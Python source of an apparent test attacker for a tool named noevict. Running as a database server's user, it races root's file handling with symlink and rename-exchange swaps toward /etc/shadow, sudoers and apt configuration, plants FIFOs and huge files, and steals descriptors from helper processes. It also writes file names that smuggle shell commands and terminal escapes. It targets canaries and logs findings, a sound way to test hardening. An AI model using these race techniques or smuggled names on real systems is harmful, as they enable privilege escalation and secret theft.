"""A program of its own: what somebody who has become the server's user does beside a run of noevict.

It is copied to a host and runs there as that user, in or outside the unit's namespaces, until its standard input ends. One process
for each of its ROLES. Wherever root acts by name in a directory of the server's user, something else is under that name half
of the time. What it could read, write or take goes into FOUND, a line each; what it moved aside is back at its end.

    attacker.py ENGINE FOUND MARK PID ROLE...

It starts as root and becomes that user first of all: the unit runs no programs but the server's, and what was broken
into needs none. PID: of the server whose namespaces it is in; 0 is outside.
"""

import ctypes
import itertools
import os
import pwd
import random
import re
import shutil
import signal
import stat
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
IN_CREATE, IN_MOVED_TO, IN_ATTRIB, IN_NONBLOCK = 0x100, 0x80, 0x4, 0x800
PIDFD_OPEN, PIDFD_GETFD = 434, 438
PR_CAPBSET_DROP, PR_SET_NO_NEW_PRIVS, CLONE_NEWNS = 24, 38, 0x20000

ENGINE, MARK, INSIDE = sys.argv[1], sys.argv[3].encode(), int(sys.argv[4])
ETC, DATA, LOGS, RUN = (Path(at) / ENGINE for at in ("/etc", "/var/lib", "/var/log", "/run"))
# Files of root's that are there for this: nobody has a reason to open them.
CANARY, CANARIES = Path("/root/canary"), Path("/root/canaries")
SHADOW, APT, SUDOERS = Path("/etc/shadow"), Path("/etc/apt/apt.conf.d"), Path("/etc/sudoers.d")
LOOK_LINES = (
    "memtotal 99999999",
    "fqdn neighbour.example.com",
    "address host0 10.254.254.254",
    "uid 1",
    "package neighbour install installed 9:9",
)
FORGED = "\n".join(LOOK_LINES)
# What lines of a look, a terminal or a shell would take for their own.
NASTY = [
    f"x\n\n\n{FORGED}\n.incr.aof",
    "\x1b]0;owned\x07\x1b[2J.incr.aof",
    f"x\n{FORGED}\n.incr.aof",
    "$(touch /tmp/canary)`touch /tmp/canary`",
    "x\nend-of-look\n.incr.aof",
    "-rf .",
]


_found = -1


def note(what: str) -> None:
    os.write(_found, f"{what}\n".encode())


def pause(*seconds: float) -> None:
    """One of these: each step of a run meets each side of a swap, and some runs get past their first."""
    time.sleep(random.choice(seconds))  # noqa: S311


def exchange(one: Path, other: Path) -> bool:
    """Both names at once: nobody sees neither."""
    paths = (os.fsencode(one), os.fsencode(other))
    return LIBC.renameat2(AT_FDCWD, paths[0], AT_FDCWD, paths[1], RENAME_EXCHANGE) == 0


# --- what lies under a name that is not the server's file -------------------------------------------------------------


def link_to(target: Path) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


def fifo(path: Path) -> None:
    os.mkfifo(path, 0o666)


def hard_link(path: Path) -> None:
    """To a file of root's, where this kernel lets a stranger make one."""
    try:
        os.link("/etc/passwd", path)
    except OSError:
        path.symlink_to("/etc/passwd")


def directory(path: Path) -> None:
    """Its files are links to root's."""
    path.mkdir(0o777)
    names = ("server.key", "server.crt", "ca.crt", ".server.key.new", "said", "appendonly.aof.1.base.rdb")
    for name in names:
        (path / name).symlink_to(SHADOW if "key" in name else CANARY)
    (path / "appendonly.aof.2.incr.aof").symlink_to(SHADOW)
    os.mkfifo(path / "appendonly.aof.manifest")
    with suppress(OSError):
        (path / NASTY[0]).touch()


def huge(path: Path) -> None:
    """Nothing that takes room, and hours to read."""
    with path.open("w") as opened:
        opened.truncate(1 << 43)


NEW = APT / "zz"  # no file is there: writing through a link makes one
FILES = (link_to(CANARY), link_to(NEW), fifo, link_to(SHADOW), huge, link_to(APT), hard_link, directory, link_to(CANARIES))
DIRECTORIES = (link_to(CANARIES), link_to(APT), link_to(SUDOERS), directory, fifo, link_to(CANARY))


def remove(path: Path) -> None:
    with suppress(OSError):
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path, ignore_errors=True)
        else:
            path.unlink()


def same(one: os.stat_result, other: os.stat_result) -> bool:
    return (one.st_dev, one.st_ino) == (other.st_dev, other.st_ino)


# --- roles ------------------------------------------------------------------------------------------------------------


def swap(path: Path, traps: tuple[Callable[[Path], None], ...]) -> Iterator[None]:
    """Between what is there and a trap, and back; where nothing is there, the trap comes and goes."""
    for number in itertools.count():
        side = path.with_name(f".swapped-{path.name}-{os.getpid()}-{number % 2}")
        remove(side)
        try:
            traps[number % len(traps)](side)
            trap = side.lstat()
            if not exchange(path, side):
                if os.path.lexists(path):
                    raise PermissionError
                side.rename(path)
        except OSError:
            remove(side)
            yield
            time.sleep(0.05)
            continue
        try:
            pause(0.0005, 0.002, 0.01, 0.05, 0.3)
            yield
        finally:
            _back(path, side, trap)
        pause(0.001, 0.01, 0.05, 0.3, 1)


def _back(path: Path, side: Path, trap: os.stat_result) -> None:
    with suppress(OSError):
        if not same(path.lstat(), trap):
            # Somebody put another one there meanwhile, which is the one that counts.
            remove(side)
        elif os.path.lexists(side):
            exchange(path, side)
            remove(side)
        else:
            remove(path)


def plant(places: dict[Path, Callable[[Path], None]]) -> Iterator[None]:
    """One trap for good under each name; what was there is back in the end."""
    aside = {}
    for path, trap in places.items():
        with suppress(OSError):
            if os.path.lexists(path):
                aside[path] = path.with_name(f".aside-{path.name}")
                path.rename(aside[path])
            trap(path)
    note_planted = {path: path.lstat() for path in places if os.path.lexists(path)}
    try:
        while True:
            time.sleep(0.01)
            yield
    finally:
        for path, trap in note_planted.items():
            with suppress(OSError):
                if os.path.lexists(path) and same(path.lstat(), trap):
                    remove(path)
        for path, old in aside.items():
            with suppress(OSError):
                if not os.path.lexists(path):
                    old.rename(path)


def watch(places: tuple[Path, ...]) -> Iterator[None]:
    """For what root makes in directories of its own, and then gives away: links, before root opens files there."""
    notify = LIBC.inotify_init1(IN_NONBLOCK)
    watches = {
        LIBC.inotify_add_watch(notify, os.fsencode(place), IN_CREATE | IN_MOVED_TO): place
        for place in places
    }
    while True:
        try:
            events = os.read(notify, 65536)
        except OSError:
            time.sleep(0.0002)
            yield
            continue
        while events:
            length = int.from_bytes(events[12:16], sys.byteorder)
            name = events[16 : 16 + length].rstrip(b"\0")
            place = watches.get(int.from_bytes(events[:4], sys.byteorder, signed=True))
            events = events[16 + length :]
            if place and (b"noevict" in name or b"tmp." in name):
                _pounce(place / os.fsdecode(name))
        yield


def _pounce(path: Path) -> None:
    """As soon as it can be written to, which it may be for a moment only."""
    names = ("said", "s", "conf", "acl", "pid", "manifest", "appendonlydir")
    until = time.monotonic() + 0.5
    while time.monotonic() < until:
        with suppress(OSError):
            if path.is_dir():
                for name in names:
                    with suppress(FileExistsError):
                        (path / name).symlink_to(CANARY)
            else:
                with path.open("r+b") as opened:
                    read(opened.read(65536), path)
        if not os.path.lexists(path):
            return


def read(content: bytes, path: Path) -> None:
    if MARK in content:
        note(f"read root's secret in {str(path)!a}")


def change_tls_between() -> Iterator[None]:
    """Once root has made its request or put a first file in place, and before it changes owners by name."""
    trap, notify = TLS.with_name(".swapped-tls"), LIBC.inotify_init1(IN_NONBLOCK)
    for number in itertools.count():
        LIBC.inotify_add_watch(notify, os.fsencode(ETC), IN_ATTRIB | IN_CREATE)
        LIBC.inotify_add_watch(notify, os.fsencode(TLS), IN_MOVED_TO)
        remove(trap)
        trap.mkdir(0o777)
        (trap / "server.key").symlink_to(SHADOW)
        seen = b""
        while not ((b"tls\0" in seen and not number % 2) or b"server.crt\0" in seen):
            with suppress(OSError):
                seen = os.read(notify, 65536)
            time.sleep(0.0001)
            yield
        if b"server.crt\0" not in seen:
            pause(0.05, 0.1, 0.2)
        about = trap.lstat()
        if exchange(TLS, trap):
            until = time.monotonic() + 2
            try:
                while time.monotonic() < until:
                    yield
                    time.sleep(0.001)
            finally:
                _back(TLS, trap, about)


def rename_open() -> Iterator[None]:
    """What the server has open, and every directory of its own, with names that are lines of a look."""
    for number in itertools.count():
        nasty = NASTY[number // 2 % len(NASTY) if number % 2 else 0]
        made = []
        for place in (ETC, DATA, DATA / "appendonlydir", LOGS, RUN):
            with suppress(OSError):
                (place / nasty).touch()
                made.append(place / nasty)
        appended = sorted((DATA / "appendonlydir").glob("appendonly.aof.*.incr.aof"))[-1:]
        moved = [(path, path.with_name(f"y{nasty}")) for path in appended]
        for path, name in moved:
            with suppress(OSError):
                path.rename(name)
        try:
            for _ in range(60):
                time.sleep(0.01)
                yield
        finally:
            for path, name in moved:
                with suppress(OSError):
                    name.rename(path)
            for path in made:
                remove(path)
        pause(0.01, 0.1)


def helpers() -> Iterator[None]:
    """Processes that root starts as this user: stopped, their output written to and held, their files taken."""
    server = _server()
    known = {int(each) for each in os.listdir("/proc") if each.isdigit()}  # noqa: PTH208 - for speed
    held: list[int] = []
    try:
        while True:
            for pid in {int(each) for each in os.listdir("/proc") if each.isdigit()} - known:  # noqa: PTH208
                with suppress(OSError):
                    if os.stat(f"/proc/{pid}").st_uid == os.getuid() and not _mine(pid) and pid != server:
                        held += _take(pid)
                        if random.random() < 0.5:  # noqa: S311
                            os.kill(pid, signal.SIGSTOP)
                    known.add(pid)
            time.sleep(0.0005)
            yield
            if len(held) > 200:
                for number in held:
                    os.close(number)
                held.clear()
    finally:
        for pid in known:
            with suppress(OSError):
                if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                    os.kill(pid, signal.SIGCONT)


def _server() -> int:
    for comm in Path("/proc").glob("[0-9]*/comm"):
        with suppress(OSError):
            if comm.read_text().startswith(f"{ENGINE}-server") and comm.stat().st_uid == os.getuid():
                return int(comm.parent.name)
    return 0


def _mine(pid: int) -> bool:
    return b"attacker.py" in Path(f"/proc/{pid}/cmdline").read_bytes()


def _take(pid: int) -> list[int]:
    """Whatever it has open: regular files that another owns and that can be written are a way to root."""
    taken = []
    handle = LIBC.syscall(PIDFD_OPEN, pid, 0)
    for name in os.listdir(f"/proc/{pid}/fd"):  # noqa: PTH208
        number = LIBC.syscall(PIDFD_GETFD, handle, int(name), 0)
        if number < 0:
            continue
        about, where = os.fstat(number), os.readlink(f"/proc/self/fd/{number}")
        writable = bool(_flags(number) & os.O_ACCMODE)
        if stat.S_ISREG(about.st_mode) and about.st_uid != os.getuid():
            if writable and not HARMLESS.match(where):
                note(f"took root's file, open for writing, from a helper: {where!a}")
            with suppress(OSError):
                read(os.pread(number, 65536, 0), Path(where))
        if stat.S_ISFIFO(about.st_mode) and writable:
            os.set_blocking(number, False)
            with suppress(OSError):
                os.write(number, f"\n{FORGED}\n".encode())
            taken.append(number)
        else:
            os.close(number)
    os.close(handle)
    return taken


# What a helper prints, which root reads as that.
HARMLESS = re.compile(r"/run/noevict\.(said\.\w+|candidate\.\w+/said)( \(deleted\))?$")


def _flags(number: int) -> int:
    text = Path(f"/proc/self/fdinfo/{number}").read_text()
    return int(text.split("flags:")[1].split()[0], 8)


def reader() -> Iterator[None]:
    """What can be read that should not be: root's own files, and their content in any file of the server's."""
    while True:
        for path in (CANARY, SHADOW, CANARIES / "one"):
            with suppress(OSError):
                content = path.read_bytes()
                note(f"opened {path} ({len(content)} bytes)")
        for place in (ETC, ETC / "tls", DATA, DATA / "appendonlydir", LOGS, RUN, Path("/tmp"), Path("/run")):
            with suppress(OSError):
                for path in place.iterdir():
                    with suppress(OSError):
                        about = path.lstat()
                        if stat.S_ISREG(about.st_mode) and about.st_size < 1 << 20:
                            read(path.read_bytes(), path)
        time.sleep(0.02)
        yield


CONF, ACL, TLS = ETC / f"{ENGINE}.conf", ETC / "users.acl", ETC / "tls"
AOF, LOG, PID = DATA / "appendonlydir", LOGS / f"{ENGINE}-server.log", RUN / f"{ENGINE}-server.pid"
BASE, MANIFEST = AOF / "appendonly.aof.1.base.rdb", AOF / "appendonly.aof.manifest"
SHIPPED, BEFORE = ETC / f"{ENGINE}.conf.debian", ETC / f"{ENGINE}.conf.before-noevict"
ROLES: dict[str, Callable[[], Iterator[None]]] = {
    # Between this and that.
    "conf": lambda: swap(CONF, FILES),
    "acl": lambda: swap(ACL, FILES),
    "tls": lambda: swap(TLS, DIRECTORIES),
    "shipped": lambda: swap(SHIPPED, FILES),
    "before": lambda: swap(BEFORE, FILES),
    "key": lambda: swap(TLS / "server.key", FILES),
    "rdb": lambda: swap(DATA / "dump.rdb", FILES),
    "aof": lambda: swap(AOF, DIRECTORIES),
    "manifest": lambda: swap(MANIFEST, FILES),
    "log": lambda: swap(LOG, FILES),
    "pid": lambda: swap(PID, FILES),
    # For good.
    "tls is a trap": lambda: plant({TLS: directory}),
    "shipped is a directory of root's": lambda: plant({SHIPPED: link_to(APT)}),
    "shipped is a file to be": lambda: plant({SHIPPED: link_to(NEW)}),
    "conf is a link": lambda: plant({CONF: link_to(CANARY)}),
    "fifos": lambda: plant({ACL: fifo, DATA / "dump.rdb": fifo}),
    "huge files": lambda: plant({ACL: huge, LOG: huge, MANIFEST: huge, SHIPPED: huge, DATA / "dump.rdb": huge}),
    "more fifos": lambda: plant({CONF: fifo, LOG: fifo, PID: fifo, SHIPPED: fifo}),
    "links among the data": lambda: plant({
        AOF / "x.base.rdb": link_to(Path("/etc/passwd")),
        AOF / "x.incr.aof": link_to(CANARY),
        DATA / "dump.rdb": link_to(CANARY),
    }),
    "log is a link": lambda: plant({LOG: link_to(CANARY)}),
    # For what root does meanwhile.
    "watch": lambda: watch((Path("/run"), Path("/etc"), Path("/tmp"), DATA, ETC)),
    "tls between": change_tls_between,
    "names": rename_open,
    "helpers": helpers,
    "reader": reader,
}  # fmt: skip


def play(role: str) -> None:
    """Until SIGTERM, which ends it where it has put everything back."""
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    acts = ROLES[role]()
    while not ended:
        try:
            next(acts)
        except (OSError, ValueError, IndexError):
            acts = ROLES[role]()  # what it was busy with is gone
            time.sleep(0.05)
    acts.close()  # type: ignore[attr-defined]


def become_server() -> None:
    user = pwd.getpwnam(ENGINE)
    if INSIDE:
        namespace = os.open(f"/proc/{INSIDE}/ns/mnt", os.O_RDONLY)
        if LIBC.setns(namespace, CLONE_NEWNS):
            raise OSError(ctypes.get_errno(), "setns")
        os.close(namespace)
        os.chdir("/")
        for capability in range(64):
            LIBC.prctl(PR_CAPBSET_DROP, capability, 0, 0, 0)
    os.initgroups(ENGINE, user.pw_gid)
    os.setresgid(user.pw_gid, user.pw_gid, user.pw_gid)
    os.setresuid(user.pw_uid, user.pw_uid, user.pw_uid)
    if INSIDE:
        LIBC.prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)


def main() -> None:
    global _found  # noqa: PLW0603 - opened as root, where a sandbox may not
    _found = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
    become_server()
    os.umask(0)
    roles = sys.argv[5:]
    children = []
    for role in roles:
        child = os.fork()
        if not child:
            try:
                play(role)
            finally:
                os._exit(0)
        children.append(child)
    print("at work", flush=True)
    sys.stdin.read()
    for child in children:
        os.kill(child, signal.SIGTERM)
    for child in children:
        os.waitpid(child, 0)


if __name__ == "__main__":
    main()
